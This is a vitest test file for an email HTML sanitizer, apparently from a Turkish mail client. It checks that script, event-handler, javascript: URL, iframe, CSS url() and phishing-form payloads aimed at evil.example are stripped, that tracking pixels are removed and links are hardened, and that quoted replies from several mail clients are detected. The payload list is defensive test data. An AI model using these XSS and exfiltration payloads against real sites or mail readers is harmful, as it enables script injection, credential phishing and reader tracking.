import { describe, expect, test } from 'vitest';
import { pageOf, roughTextOf } from './page.ts';

const read = (html: string) => {
  const page = pageOf(html);
  if (!page) throw new Error('This is too much.');
  return page;
};

describe('a letter can run nothing, load nothing and lead nowhere but out', () => {
  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><image href="https://evil.example/x"/></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input name=password><button>Giriş</button></form>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="/api/v1/sign-out">x</a>',
    '<a href="//evil.example">x</a>',
    '<base href="https://evil.example/"><link rel=stylesheet href=https://evil.example/x.css>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/x)}</style>',
    '<div style="background:url(https://evil.example/x)">x</div>',
    '<div style="background:u\\rl(https://evil.example/x)">x</div>',
    '<div style="position:fixed;top:0;left:0;z-index:9999;width:100%">x</div>',
    '<div style="margin-top:-9999px">x</div>',
    '<table background="https://evil.example/x"><tr><td background="https://evil.example/x">x</td></tr></table>',
    '<video src="https://evil.example/x" poster="https://evil.example/y"></video>',
    '<img srcset="https://evil.example/x 2x">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src="data:text/html,x">',
    '<input type=image src="https://evil.example/x">',
    '<div id="root" name="body" class="mantine-Modal">x</div>',
  ])('%s', (html) => {
    const { html: clean } = read(html);
    expect(clean).not.toMatch(
      /script|onerror|onload|javascript|evil\.example|position|url\(|svg|iframe|<form|<input|<style|<link|<meta|<base| id=| class=|src=|href=|-9999/i,
    );
  });

  test('pictures elsewhere wait, those of the letter are named, pixels that tell on the reader are gone', () => {
    const { html, remotePictures } = read(
      `<img src="https://shop.example/logo.png" width="120" alt="Mağaza"><img src="cid:resim1@x"><img src="https://shop.example/p.gif" width="1" height="1">
       <img src="https://shop.example/q.gif" style="width:1px;height:1px"><img src="https://shop.example/r.gif" style="display:none">
       <img src="data:image/png;base64,iVBORw0KGgo=">`,
    );
    expect(html).toContain('<img data-remote="https://shop.example/logo.png" alt="Mağaza" width="120">');
    expect(html).toContain('data-cid="resim1@x"');
    expect(html).toContain('src="data:image/png;base64,iVBORw0KGgo="');
    expect(html).not.toMatch(/[pqr]\.gif/);
    expect(remotePictures).toBe(1);
  });

  test('ways out open in a window of their own and tell nobody where they came from', () => {
    expect(read('<a href="https://shop.example/kargo" target=_self>Kargo</a>').html).toBe(
      '<a href="https://shop.example/kargo" target="_blank" rel="noopener noreferrer nofollow">Kargo</a>',
    );
  });

  test('what it says of itself with our own marks is not believed', () => {
    expect(read('<div data-quote="" data-hint="this">x</div><p>y</p>').html).toBe('<div>x</div><p>y</p>');
  });
});

describe('what a page quotes is marked', () => {
  const answer = '<div>Teşekkürler.</div>';
  const head =
    '<b>Kimden:</b> Destek<br><b>Gönderildi:</b> 12 Mart 2024 Salı 10:05<br><b>Kime:</b> Ayşe<br><b>Konu:</b> Sipariş';
  test.each([
    [
      'Gmail',
      `<div class="gmail_quote"><div class="gmail_attr">12 Mar 2024 Sal, 10:05 tarihinde Destek şunu yazdı:<br></div><blockquote>eski</blockquote></div>`,
    ],
    ['Outlook in the browser', `<div id="appendonsend"></div><hr><div id="divRplyFwdMsg">${head}</div><div>eski</div>`],
    [
      'Apple',
      '<div><br><blockquote type="cite"><div>12 Mar 2024 10:05 tarihinde Destek şunları yazdı:</div><div>eski</div></blockquote></div>',
    ],
    [
      'Outlook on the desktop',
      `<div><div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm"><p>${head}</p></div></div><p>eski</p>`,
    ],
    [
      'Yahoo',
      '<div id="x" class="yahoo_quoted"><div>12 Mart 2024 Salı 10:05, Destek şunları yazdı:</div><div>eski</div></div>',
    ],
    [
      'Thunderbird',
      '<div class="moz-cite-prefix">On 12.03.2024 10:05, Destek wrote:<br></div><blockquote type="cite">eski</blockquote>',
    ],
    ['a program nobody knows', `<p>-----Özgün İleti-----</p><p>${head}</p><p>eski</p>`],
  ])('as %s writes it', (_, quote) => {
    const page = read(answer + quote);
    expect(page.text.slice(0, page.quoteFrom ?? page.text.length).trim()).toBe('Teşekkürler.');
    expect(page.html).toMatch(/^<div>Teşekkürler\.<\/div>.*data-quote/s);
    expect(page.text).toContain('eski');
    // Alone, the quote is the letter.
    expect(read(quote).html).not.toContain('data-quote');
    expect(read(quote).quoteFrom).toBeNull();
  });

  test('answers below a quote stay in sight', () => {
    const page = read('<p>Merhaba</p><blockquote type="cite">Hangi renk?</blockquote><p>Mavi.</p>');
    expect(page.quoteFrom).toBeNull();
    expect(page.html).toBe('<p>Merhaba</p><blockquote data-quote>Hangi renk?</blockquote><p>Mavi.</p>');
  });
});

test('a page becomes lines as its reader sees them', () => {
  expect(
    read(
      '<head><title>gizli</title></head><p>Sayın&nbsp;yetkili,</p><ul><li>bir</li><li>iki</li></ul>üç<br>dört<div style="display:none">gizli</div>',
    ).text,
  ).toBe('Sayın yetkili,\n\n• bir\n• iki\n\nüç\ndört');
});

test('what is too much to be cleaned is shown as words', () => {
  expect(pageOf('<b>'.repeat(40_000))).toBeNull();
  expect(pageOf('x'.repeat(700_000))).toBeNull();
  expect(roughTextOf(`${'<b>'.repeat(40_000)}bomba<br>patladı`)).toBe('bomba\npatladı');
});
